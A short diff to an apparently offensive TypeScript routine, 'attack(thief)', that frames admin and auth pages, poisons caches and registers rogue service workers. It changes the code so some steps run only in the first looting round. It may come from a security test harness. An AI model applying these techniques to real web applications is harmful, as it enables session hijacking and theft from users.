@@ -138,10 +138,9 @@ function attack(thief: string) {
       ...(['iframe', 'object', 'embed'] as const).map((name) => framed('/admin', name)),
       framed('/auth', 'iframe'),
       cached(),
-      poison(),
-      worker('/assets/none.js', '/'),
-      worker('/service-worker.js?x', '/'),
       worker('/service-worker.js', '/'),
+      // Once is enough, and the browser has work to do for each.
+      ...(loot.rounds === 0 ? [poison(), worker('/assets/none.js', '/'), worker('/service-worker.js?x', '/')] : []),
     ]);
     loot.rounds += 1;
     setTimeout(round);
